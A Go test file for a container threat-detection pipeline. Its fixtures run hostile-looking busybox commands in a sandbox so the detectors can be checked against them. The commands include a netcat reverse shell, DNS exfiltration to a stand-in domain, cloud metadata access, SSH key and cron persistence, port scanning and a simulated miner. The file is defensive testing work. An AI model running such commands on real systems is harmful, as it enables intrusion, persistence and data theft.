package image

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/secpipe/secpipe/internal/executor/sandbox"
	"github.com/secpipe/secpipe/internal/executor/sinkhole"
	imagestore "github.com/secpipe/secpipe/internal/image"
	"github.com/secpipe/secpipe/internal/pipeline"
	"github.com/secpipe/secpipe/internal/scan/threat"
	"github.com/secpipe/secpipe/internal/scan/threat/intel"
)

// threatFixtures are smoke tests of a busybox image, one per finding type:
// each does what the type describes, and the verify run must report
// exactly the listed types (tools such as nc bring their own finding).
var threatFixtures = []struct {
	name   string
	script string
	ports  []int
	want   []string
}{
	{name: "clean", script: "cat /etc/os-release >/dev/null", want: nil},
	{name: "c2-domain", script: "nslookup guarddutyc2activityb.com", want: []string{threat.TypeC2Domain}},
	{name: "mining-domain", script: "nslookup pool.minexmr.com", want: []string{threat.TypeMiningDomain}},
	{name: "mining-pool-port", script: "echo login | nc -w 1 198.51.100.7 3333",
		want: []string{threat.TypeMiningNetwork, threat.TypeSuspiciousTool}},
	{name: "stratum-url", script: "/bin/echo stratum+tcp://pool.example.net:3333 >/dev/null",
		want: []string{threat.TypeMiningNetwork}},
	{name: "miner", script: "cp /bin/busybox /tmp/xmrig; /tmp/xmrig --donate-level 1; true",
		want: []string{threat.TypeMinerExecuted, threat.TypeNewBinary}},
	{name: "dga", script: "nslookup xjwqkzvbnqpltrhg.com", want: []string{threat.TypeDGADomain}},
	{name: "dns-exfiltration",
		script: `for i in $(seq 1 25); do nslookup "$(printf 'a%031d' $i).exfil.example.com" >/dev/null; done`,
		want:   []string{threat.TypeDNSExfiltration}},
	{name: "threat-list-ip", script: "echo x | nc -w 1 203.0.113.50 443",
		want: []string{threat.TypeMaliciousIP, threat.TypeSuspiciousTool}},
	{name: "threat-list-domain", script: "nslookup evil.example", want: []string{threat.TypeMaliciousDomain}},
	{name: "spambot", script: "echo HELO | nc -w 1 198.51.100.25 25",
		want: []string{threat.TypeSpambot, threat.TypeSuspiciousTool}},
	{name: "portscan", script: "for p in $(seq 1000 1030); do echo | nc -w 1 198.51.100.9 $p; done 2>/dev/null; true",
		want: []string{threat.TypePortscan, threat.TypeSuspiciousTool}},
	{name: "unusual-port", script: "echo x | nc -w 1 198.51.100.9 8080", ports: []int{443},
		want: []string{threat.TypePortUnusual, threat.TypeSuspiciousTool}},
	{name: "new-binary", script: "cp /bin/busybox /tmp/tool; /tmp/tool; true", want: []string{threat.TypeNewBinary}},
	{name: "etc-write", script: "echo hi > /etc/motd", want: []string{threat.TypeSystemConfigModified}},
	{name: "system-binary", script: "cp /bin/busybox /usr/bin/helper", want: []string{threat.TypeSystemBinaryModified}},
	{name: "cron", script: "mkdir -p /etc/cron.d && echo '* * * * * root /tmp/x' > /etc/cron.d/job",
		want: []string{threat.TypeCronModified}},
	{name: "authorized-keys", script: "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA' > /root/.ssh/authorized_keys",
		want: []string{threat.TypeSSHKeysModified}},
	{name: "reverse-shell", script: "nc 198.51.100.9 4444 -e /bin/sh; true",
		want: []string{threat.TypeReverseShell, threat.TypeSuspiciousTool}},
	{name: "package-manager", script: "cp /bin/busybox /tmp/apt-get; /tmp/apt-get install curl; true",
		want: []string{threat.TypeNewBinary, threat.TypePackageManager}},
	{name: "metadata", script: "echo x | nc -w 1 169.254.169.254 80",
		want: []string{threat.TypeMetadataAccess, threat.TypeSuspiciousTool}},
}

// TestThreatFixtures builds one busybox image and verifies it with each
// fixture's smoke test (sandbox, sinkhole, strace), then checks that the
// detectors report exactly the fixture's finding types.
func TestThreatFixtures(t *testing.T) {
	for _, need := range []func() error{sandbox.Available, sinkhole.Available} {
		if err := need(); err != nil {
			if os.Getenv("CI") != "" {
				t.Fatal(err)
			}
			t.Skip(err)
		}
	}
	dir := t.TempDir()
	store, err := imagestore.OpenStore(filepath.Join(dir, "images"))
	if err != nil {
		t.Fatal(err)
	}
	b := &Builder{Store: store, WorkDir: filepath.Join(dir, "work")}
	ctx := context.Background()
	if _, err := b.Build(ctx, Spec{Base: "busybox", Publish: "fixture"}); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal(err)
		}
		t.Skip(err)
	}
	list, err := intel.Parse("custom.txt", strings.NewReader("203.0.113.50\nevil.example\n"), intel.CategoryCustom)
	if err != nil {
		t.Fatal(err)
	}
	set := intel.NewSet(append(intel.Default(), list), nil)
	covered := map[string]bool{}
	for _, fx := range threatFixtures {
		t.Run(fx.name, func(t *testing.T) {
			script := filepath.Join(t.TempDir(), "smoke.sh")
			if err := os.WriteFile(script, []byte("#!/bin/sh\n"+fx.script+"\n"), 0o755); err != nil {
				t.Fatal(err)
			}
			var events, log bytes.Buffer
			res, err := b.Verify(ctx, VerifySpec{Image: "fixture", Test: script, Events: &events, Log: &log})
			if err != nil {
				t.Fatalf("Verify: %v\n%s", err, log.String())
			}
			if res.ExitCode != 0 {
				t.Fatalf("smoke test exit %d:\n%s", res.ExitCode, log.String())
			}
			var got []string
			_, err = threat.Detect(ctx, threat.NewReader("events.jsonl", &events, threat.ReadOptions{}),
				threat.Config{Intel: set, AllowedPorts: fx.ports}, func(f pipeline.Finding) error {
					if !slices.Contains(got, f.RuleID) {
						got = append(got, f.RuleID)
					}
					return nil
				})
			if err != nil {
				t.Fatal(err)
			}
			slices.Sort(got)
			want := slices.Clone(fx.want)
			slices.Sort(want)
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("finding types (-want +got):\n%s\nsmoke test output:\n%s", diff, log.String())
			}
			for _, id := range got {
				covered[id] = true
			}
		})
	}
	if n := len(covered); n < 12 {
		t.Errorf("the fixtures cover %d finding types, want at least 12", n)
	}
}
